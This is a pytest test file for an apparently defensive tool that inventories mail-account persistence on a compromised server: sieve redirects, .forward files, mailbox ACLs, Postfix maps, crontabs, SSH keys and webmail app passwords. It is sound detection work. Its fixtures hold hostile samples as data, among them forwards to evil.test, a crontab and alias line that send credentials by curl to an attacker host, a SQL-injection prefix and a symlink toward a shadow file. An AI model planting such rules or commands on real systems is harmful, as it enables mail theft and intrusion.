# Copyright: (c) 2026, the Good Standing developers
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""What is found in a home, in maps and databases; what cannot be read is unknown; nothing is changed; no secret comes out."""

from __future__ import annotations

import json
import os
import pwd
import sqlite3
import stat
from pathlib import Path

import pytest
from goodstanding_src.module_utils.goodstanding.host import files as state
from goodstanding_src.module_utils.goodstanding.host.files import HostError
from goodstanding_src.module_utils.goodstanding.persistence import files, maps, system, webmail
from goodstanding_src.module_utils.goodstanding.persistence.inventory import Options, take
from host import ACCOUNT


def taken(host, check_mode=True, accounts=(ACCOUNT,), **options):
    return take(host.run, list(accounts), Options(**options), check_mode)


def by_place(host, **options):
    return {os.path.relpath(row["place"], host.home): row for row in taken(host, **options)["findings"]}


def snapshot(home):
    return sorted((str(path), path.lstat().st_mtime_ns, path.lstat().st_mode) for path in home.rglob("*"))


def test_scripts_active_and_not_with_the_forward_and_the_shares(host):
    (host.home / "sieve/main.sieve").write_text('redirect "x@evil.test";')
    (host.home / "sieve/other.sieve").write_text("keep;")
    (host.home / ".dovecot.sieve").symlink_to("sieve/main.sieve")
    (host.home / ".forward").write_text("\\erin, y@evil.test\n")
    (host.home / ".forward+lists").write_text("bob@alpha.test\n")
    (host.home / "Maildir/.Secret/cur").mkdir(parents=True)
    (host.home / "Maildir/.Secret/dovecot-acl").write_text("owner lrwstipekxa\nuser=z@evil.test lr\n")
    (host.home / "Maildir/.Secret/cur/dovecot-acl").write_text("user=message@evil.test lr\n")
    before = snapshot(host.home)
    found = by_place(host)
    assert snapshot(host.home) == before
    assert {place: (row["kind"], row["active"], row["targets"], row["outside"]) for place, row in found.items()} == {
        "sieve/main.sieve": ("sieve", True, ["x@evil.test"], True),
        "sieve/other.sieve": ("sieve", False, [], False),
        ".forward": ("forward", True, ["\\erin", "y@evil.test"], True),
        ".forward+lists": ("forward", True, ["bob@alpha.test"], False),
        "Maildir/.Secret/dovecot-acl": ("acl", None, ["z@evil.test"], True),
    }
    assert taken(host)["unreviewed"] == {ACCOUNT: 5}


def test_a_plain_file_or_a_stray_link_in_place_of_the_active_link_is_found_although_dovecot_lists_none(host):
    active = host.home / ".dovecot.sieve"
    active.write_text("discard;")
    row = by_place(host)[".dovecot.sieve"]
    assert (row["active"], row["does"]) == (True, ["discard everything"])
    active.unlink()
    outside = host.home.parent / "x.sieve"
    outside.write_text('redirect "CANARY@evil.test";')
    active.symlink_to("../x.sieve")
    row = by_place(host)[".dovecot.sieve"]
    assert row["active"] is None and row["outside"] and "leads out" in row["note"]
    assert "CANARY" not in json.dumps(row)


def test_dovecot_is_not_asked_for_scripts_where_that_would_make_the_storage(host):
    (host.home / "sieve").rmdir()
    taken(host)
    assert not [line for line, _ in host.asked if "sieve list" in line]


def test_scripts_that_are_not_files_come_from_dovecot(host):
    doveconf = (
        host.answers["doveconf -n"][1]
        .replace("file:~/sieve;active=~/.dovecot.sieve", "dict:scripts")
        .replace("  path =", "  driver = dict\n  path =")
    )
    host.answers["doveconf -n"] = (0, doveconf, "")
    host.scripts(main=True, gone=False)
    host.answers["doveadm -f json sieve get -u erin@alpha.test main"] = (0, json.dumps([{"sieve script": "discard;"}]), "")
    result = taken(host)
    (row,) = [row for row in result["findings"] if row["kind"] == "sieve"]
    assert (row["place"], row["active"], row["does"], row["mtime"], row["touched_since"]) == (
        "sieve:main",
        True,
        ["discard everything"],
        None,
        None,
    )
    assert [one["what"] for one in result["unknown"]] == ["sieve:gone"]


@pytest.mark.parametrize(
    ("command", "answer", "what"),
    [
        ("doveconf -n", (89, "", "doveconf: Fatal: x"), "Dovecot"),
        ("doveadm -f tab user", (75, "", "connection refused"), "home"),
        ("doveadm -f tab user", (0, "field\tvalue\nuid\t5000\n", ""), "home"),
        ("doveadm -f json sieve list", (75, "[]", "failed"), "sieve"),
        ("doveadm -f json sieve list", (0, "no JSON", ""), "sieve"),
        ("postconf", (127, "", "postconf: not found"), "Postfix's maps"),
    ],
)
def test_what_cannot_be_read_is_unknown(host, command, answer, what):
    host.answers[command] = answer
    assert what in [one["what"] for one in taken(host)["unknown"]]


def test_a_host_without_dovecot_does_not_say_that_a_virtual_account_is_clean(host):
    host.answers["doveconf -n"] = (127, "", "")
    assert [(one["account"], one["what"]) for one in taken(host)["unknown"]] == [(ACCOUNT, "home")]


def test_an_account_that_this_host_does_not_have_is_no_fault(host):
    host.answers["doveadm -f tab user"] = (67, "", "userdb lookup: user doesn't exist")
    assert taken(host)["unknown"] == []


def test_a_home_that_is_not_there_yet_is_no_fault(host):
    (host.home / "sieve").rmdir()
    host.home.rmdir()
    assert taken(host)["unknown"] == []


def test_a_home_cannot_lead_root_elsewhere(host):
    secret = host.home.parent / "shadow"
    secret.write_text("root:CANARY@evil.test:1::::::\n")
    (host.home / ".forward").symlink_to(secret)
    (host.home / ".forward+a").symlink_to("sieve/real")
    (host.home / "sieve/real").write_text("x@evil.test")
    os.mkfifo(host.home / "sieve/pipe.sieve")
    (host.home / "sieve/dir.sieve").mkdir()
    os.symlink(host.home.parent, host.home / "sieve/out.sieve")
    found = by_place(host)
    assert "CANARY" not in json.dumps(found)
    assert found[".forward"]["outside"], "where it leads is not known"
    assert found[".forward+a"]["targets"] == ["x@evil.test"]
    assert "no regular file" in found["sieve/pipe.sieve"]["note"]


def test_a_storage_that_is_a_link_out_of_the_home_is_not_followed(host):
    (host.home / "sieve").rmdir()
    elsewhere = host.home.parent / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "CANARY.sieve").write_text('redirect "x@evil.test";')
    (host.home / "sieve").symlink_to(elsewhere)
    assert "CANARY" not in json.dumps(taken(host))


def test_a_link_that_is_made_while_a_file_is_read_is_not_followed(tmp_path, monkeypatch):
    (tmp_path / "shadow").write_text("CANARY")
    (tmp_path / ".forward").symlink_to("shadow")
    monkeypatch.setattr(os, "lstat", os.stat)  # what was there when it was looked at
    with pytest.raises(OSError, match="symbolic"):
        files.read_file(str(tmp_path), ".forward")


def test_a_mailbox_that_anyone_may_read_is_outside(host):
    (host.home / "Maildir").mkdir()
    (host.home / "Maildir/dovecot-acl").write_text('# note\nanyone lr\n-user=bob@alpha.test w\n"user=a b" l\n')
    row = by_place(host)["Maildir/dovecot-acl"]
    assert (row["targets"], row["outside"]) == (["anyone", "bob@alpha.test", "a b"], True)


def test_shares_are_not_looked_for_where_no_service_loads_acl(host):
    (host.home / "Maildir").mkdir()
    (host.home / "Maildir/dovecot-acl").write_text("anyone lr\n")
    host.answers["doveconf -n"] = (0, host.answers["doveconf -n"][1].replace("acl", "quota"), "")
    assert by_place(host) == {}


def test_a_folder_that_is_a_link_is_not_listed(tmp_path):
    (tmp_path / "real").mkdir()
    (tmp_path / "real/a").write_text("")
    (tmp_path / "link").symlink_to("real")
    assert files.names(str(tmp_path), "real") == (["a"], False)
    assert files.names(str(tmp_path), "link") == ([], False)


def test_a_hard_link_to_somebody_elses_file_is_not_read(tmp_path, monkeypatch):
    (tmp_path / "shadow").write_text("CANARY")
    os.link(tmp_path / "shadow", tmp_path / ".forward")
    real = os.fstat

    def other(handle):
        status = real(handle)
        return os.stat_result([*status[:4], 12345, *status[5:10]]) if stat.S_ISREG(status.st_mode) else status

    monkeypatch.setattr(os, "fstat", other)
    assert files.read_file(str(tmp_path), ".forward").data == b""


def test_a_file_is_read_to_its_limit_and_that_is_said(host):
    (host.home / "sieve/big.sieve").write_text("#\n" * (files.MAX_SIZE // 2) + 'redirect "x@evil.test";')
    row = by_place(host)["sieve/big.sieve"]
    assert "only the first" in row["note"] and row["outside"]
    assert row["targets"] == []


def test_findings_are_bounded_and_the_active_ones_are_kept(host):
    for number in range(250):
        (host.home / f"sieve/{number}.sieve").write_text("keep;")
    (host.home / ".forward").write_text("x@evil.test")
    result = taken(host)
    assert len(result["findings"]) == 200
    assert ".forward" in {os.path.relpath(row["place"], host.home) for row in result["findings"]}
    assert "findings" in [one["what"] for one in result["unknown"]]


def test_a_name_that_is_no_utf8_can_be_printed(host):
    with open(os.path.join(os.fsencode(host.home), b"sieve/\xff.sieve"), "wb") as file:
        file.write(b"\xff;")
    json.dumps(taken(host)).encode()
    assert "sieve/\\udcff.sieve" in by_place(host)


def test_times_that_a_user_can_set_hide_nothing(host):
    path = host.home / ".forward"
    path.write_text("x@evil.test")
    os.utime(path, (1, 1))
    row = by_place(host, since=1000.0)[".forward"]
    assert (row["mtime"], row["touched_since"]) == (1.0, True)


def test_the_inventory_is_kept_0600_with_hashes_alone_and_not_in_check_mode(host):
    (host.home / ".forward").write_text("x@evil.test")
    taken(host)
    path = os.path.join(state.STATE, "persistence.json")
    assert not os.path.exists(path)
    everybody = {"everybody": True}
    host.answers["doveadm user *"] = (0, f"{ACCOUNT}\n", "")
    assert taken(host, check_mode=False, **everybody)["findings"][0]["state"] == "new"
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
    assert "evil" not in Path(path).read_text()
    before = os.stat(path).st_mtime_ns
    assert taken(host, check_mode=False, **everybody)["findings"][0]["state"] == "unchanged"
    assert os.stat(path).st_mtime_ns == before
    (host.home / ".forward").write_text("y@evil.test")
    assert taken(host)["findings"][0]["state"] == "changed"


def test_a_look_is_not_the_measure_of_the_next_look(host):
    (host.home / ".forward").write_text("x@evil.test")
    for _ in range(2):
        assert taken(host, check_mode=False)["findings"][0]["state"] == "new"
    state.save_state("locks.json", {ACCOUNT: {"incident": "x", "locked_at": 1000.0}})
    for _ in range(2):
        assert taken(host, check_mode=False)["findings"][0]["state"] == "new", "known only since after the lock"
    state.save_state("locks.json", {ACCOUNT: {"incident": "x", "locked_at": 9e9}})
    assert taken(host)["findings"][0]["state"] == "unchanged"
    assert taken(host, since=1000.0)["findings"][0]["state"] == "new"


def test_a_damaged_inventory_is_unknown_and_left_alone(host):
    os.makedirs(state.STATE)
    path = os.path.join(state.STATE, "persistence.json")
    with open(path, "w") as file:
        file.write("{")
    assert [one["what"] for one in taken(host, check_mode=False)["unknown"]] == ["inventory"]
    assert Path(path).read_text() == "{"


def test_everybody_is_kept_and_not_returned(host):
    (host.home / ".forward").write_text("x@evil.test")
    host.answers["doveadm user *"] = (0, "erin@alpha.test\nBob@alpha.test\n", "")
    result = taken(host, check_mode=False, accounts=(), everybody=True)
    assert (result["findings"], result["unreviewed"], result["inventoried"]) == ([], {}, 2)
    assert set(state.load_state("persistence.json")) == {"erin@alpha.test", "bob@alpha.test"}
    host.answers["doveadm user *"] = (75, "", "no")
    assert [one["what"] for one in taken(host, accounts=(), everybody=True)["unknown"]] == ["accounts"]


def test_an_acceptance_needs_a_reason(host):
    with pytest.raises(HostError, match="needs a reason"):
        taken(host, accept=[{"account": ACCOUNT, "place": "/x", "sha256": "0", "reason": " "}])


MAPS = """\
alias_maps = hash:/etc/aliases
virtual_alias_maps = inline:{ {a@b=c, d}, e=f }, regexp:/etc/postfix/re
sender_bcc_maps =
recipient_bcc_maps = lmdb:/etc/postfix/bcc
sender_dependent_relayhost_maps = hash:/etc/postfix/relay
sender_dependent_default_transport_maps = hash:/etc/postfix/transport
always_bcc =
mydestination = localhost, alpha.test
myorigin = /etc/mailname
forward_path = $home/.forward
"""


def test_maps_that_send_mail_elsewhere(host, monkeypatch):
    monkeypatch.setattr(maps, "_touched", lambda table: 900.0 if table.startswith("lmdb:") else 1100.0)
    host.answers["postconf -x"] = (0, MAPS, "")
    host.answers["postconf -Px"] = (0, "submission/inet/always_bcc = boss@evil.test\ncleanup/unix/syslog_name = x\n", "")
    host.answers["postmap -q - hash:/etc/aliases"] = (0, 'erin\t"|/usr/bin/curl -u a:CANARY", x@evil.test\n', "")
    host.answers["postmap -q - inline:"] = (0, "erin@alpha.test\terin@alpha.test\n@alpha.test\tall@evil.test\n", "")
    host.answers["postmap -q - lmdb:/etc/postfix/bcc"] = (0, "@alpha.test\tcopy@evil.test\n", "")
    host.answers["postmap -q - hash:/etc/postfix/relay"] = (0, "erin@alpha.test\t[smtp.evil.test]:587\n", "")
    host.answers["postmap -q - hash:/etc/postfix/transport"] = (0, "erin@alpha.test\tsmtp:[mx.evil.test]\n", "")
    result = taken(host, since=1000.0)
    rows = {row["kind"]: (row["place"], row["targets"], row["outside"], row["touched_since"]) for row in result["findings"]}
    assert rows == {
        "alias": ("hash:/etc/aliases erin", ["|/usr/bin/curl", "x@evil.test"], True, None),
        "virtual_alias": ("inline:{…} erin@alpha.test", ["erin@alpha.test"], False, None),
        "recipient_bcc": ("lmdb:/etc/postfix/bcc @alpha.test", ["copy@evil.test"], True, False),
        "sender_relayhost": ("hash:/etc/postfix/relay erin@alpha.test", ["@smtp.evil.test"], True, None),
        "sender_transport": ("hash:/etc/postfix/transport erin@alpha.test", ["@mx.evil.test"], True, None),
        "always_bcc": ("/etc/postfix/main.cf always_bcc", ["boss@evil.test"], True, None),
    }
    assert "CANARY" not in json.dumps(result)
    assert ("postmap -q - regexp:/etc/postfix/re", "@alpha.test\nerin\nerin@alpha.test\n") in host.asked


def test_a_map_that_cannot_be_asked_is_unknown(host):
    host.answers["postconf -x"] = (0, MAPS, "")
    host.answers["postmap -q - hash:/etc/postfix/relay"] = (1, "", "postmap: fatal: open database /etc/postfix/relay.db: No such file\n")
    assert [one["what"] for one in taken(host)["unknown"]] == ["sender_dependent_relayhost_maps hash:/etc/postfix/relay"]


def test_a_forward_path_that_is_not_read_is_unknown(host):
    host.answers["postconf -x"] = (0, MAPS.replace("$home/.forward", "/var/forward/$user,$home/.forward"), "")
    assert [one["what"] for one in taken(host)["unknown"]] == ["forward_path"]


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("hash:/a, hash:/b lmdb:/c", ["hash:/a", "hash:/b", "lmdb:/c"]),
        ("inline:{ {a=b, c}, d=e }, hash:/a", ["inline:{ {a=b, c}, d=e }", "hash:/a"]),
        ("unionmap:{hash:/a,hash:/b}", ["unionmap:{hash:/a,hash:/b}"]),
        ("", []),
    ],
)
def test_lists_of_maps(text, words):
    assert maps.split(text) == words


def test_keys_crontab_and_at_jobs_of_a_system_user_show_their_hash_alone(host, monkeypatch, tmp_path):
    me = pwd.getpwuid(os.getuid())
    person = pwd.struct_passwd((me.pw_name, "x", me.pw_uid, me.pw_gid, "", str(host.home), "/bin/sh"))
    monkeypatch.setattr(system.pwd, "getpwnam", lambda name: person)
    for name in ("cron", "at"):
        (tmp_path / name).mkdir()
    monkeypatch.setattr(system, "CRONTABS", str(tmp_path / "cron"))
    monkeypatch.setattr(system, "AT_JOBS", str(tmp_path / "at"))
    (tmp_path / "cron" / me.pw_name).write_text("* * * * * curl -u a:CANARY https://evil.test\n")
    (tmp_path / "at/a00001").write_text("CANARY")
    (host.home / ".ssh").mkdir()
    (host.home / ".ssh/authorized_keys").write_text("ssh-ed25519 CANARY x@evil.test\n")
    result = taken(host, accounts=(me.pw_name,))
    assert sorted(row["kind"] for row in result["findings"]) == ["at_job", "crontab", "ssh_keys"]
    local = f"uid:{me.pw_uid}"
    assert taken(host, accounts=(local,))["unreviewed"] == {local: 3}, "a local user that sends by sendmail"
    assert result["unreviewed"] == {me.pw_name: 3}
    assert "CANARY" not in json.dumps(result)


def test_a_virtual_account_has_no_system_user_of_the_same_name():
    assert system.entry("root@alpha.test", ["localhost"]) is None
    assert system.entry("root@localhost", ["localhost"]).pw_uid == 0


ROUNDCUBE = """\
CREATE TABLE rc_users (user_id integer, username text);
CREATE TABLE rc_identities (identity_id integer, user_id integer, changed datetime, del tinyint, email text, "reply-to" text, bcc text);
INSERT INTO rc_users VALUES (1, 'Erin@alpha.test'), (2, 'bob@alpha.test');
INSERT INTO rc_identities VALUES (7, 1, '2026-11-24 10:00:00', 0, 'erin@alpha.test', 'E <r@evil.test>', '');
INSERT INTO rc_identities VALUES (8, 1, '2026-11-24 10:00:00', 0, 'erin@alpha.test', '', '');
INSERT INTO rc_identities VALUES (9, 1, '2026-11-24 10:00:00', 1, 'erin@alpha.test', 'deleted@evil.test', '');
INSERT INTO rc_identities VALUES (10, 2, '2026-11-24 10:00:00', 0, 'bob@alpha.test', 'b@evil.test', '');
CREATE TABLE app (login text, id text, created integer, secret text);
INSERT INTO app VALUES ('erin@alpha.test', 'phone', 1795000000, 'CANARY'), ('bob@alpha.test', 'phone', NULL, 'CANARY');
"""


def roundcube(path):
    with sqlite3.connect(path) as database:
        database.executescript(ROUNDCUBE)
    return {"engine": "sqlite", "database": str(path), "password": "CANARY"}


def test_identities_that_send_answers_elsewhere_and_app_passwords(host, tmp_path):
    database = roundcube(tmp_path / "rc%20?.db")
    passwords = tmp_path / "app-passwords"
    passwords.write_text("erin@alpha.test:{PLAIN}CANARY::::::\nbob@alpha.test:{PLAIN}CANARY::::::\n")
    host.answers["/usr/local/bin/list"] = (0, "erin@alpha.test\t3\t2026-11-24T10:00:00Z\n", "")
    sources = [
        {"database": database, "query": "SELECT login, id, created FROM app"},
        {"passwd_file": str(passwords)},
        {"command": ["/usr/local/bin/list"]},
    ]
    result = taken(host, since=1795100000.0, roundcube={"database": database, "prefix": "rc_"}, app_passwords=sources)
    assert result["unknown"] == []
    rows = [(row["kind"], os.path.basename(row["place"]), row["targets"], row["mtime"], row["touched_since"]) for row in result["findings"]]
    assert rows == [
        ("identity", "7", ["r@evil.test"], 1795514400.0, True),
        ("app_password", "phone", [], 1795000000.0, False),
        ("app_password", "1", [], None, None),
        ("app_password", "3", [], 1795514400.0, True),
    ]
    assert "CANARY" not in json.dumps(result)


@pytest.mark.parametrize(
    "source",
    [
        {"database": {"engine": "sqlite", "database": "/nowhere", "password": "CANARY"}, "query": "SELECT 1, 2"},
        {"database": {"engine": "sqlite", "database": ":memory:", "password": "CANARY"}, "query": "SELECT CANARY"},
        {"query": "SELECT 1"},
        {"command": ["/nowhere"]},
        {"passwd_file": "/nowhere"},
        {},
    ],
)
def test_app_passwords_that_cannot_be_read_are_unknown(host, source):
    (one,) = taken(host, app_passwords=[source])["unknown"]
    assert one["what"] == "app passwords"


def test_a_database_is_only_read(host, tmp_path):
    database = roundcube(tmp_path / "rc.db")
    (one,) = taken(host, app_passwords=[{"database": database, "query": "DELETE FROM app"}])["unknown"]
    assert "readonly" in one["why"]
    (one,) = taken(host, roundcube={"database": database, "prefix": "x; DROP TABLE users; --"})["unknown"]
    assert "no prefix" in one["why"]


def test_what_a_driver_says_shows_no_password_and_no_value(monkeypatch):
    from goodstanding_src.module_utils.goodstanding.persistence import sql

    class DataError(Exception):
        pass

    for exc in (DataError('invalid input syntax for type integer: "CANARY-hash"'), OSError("cannot log in with CANARY-password")):

        def connect(options, exc=exc):
            raise exc

        monkeypatch.setattr(sql, "_connect", connect)
        with pytest.raises(sql.SourceError) as info:
            sql.rows({"engine": "postgresql", "database": "mail", "password": "CANARY-password"}, "SELECT 1")
        assert "CANARY" not in str(info.value)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (1795514400, 1795514400.0),
        ("1795514400", 1795514400.0),
        ("2026-11-24T10:00:00Z", 1795514400.0),
        ("2026-11-24 11:00:00+01:00", 1795514400.0),
        ("2026-11-24 10:00:00", 1795514400.0),
        (None, None),
        ("yesterday", None),
        ("9999999999999999", None),
    ],
)
def test_times_of_databases(value, expected):
    assert webmail.epoch(value) == expected
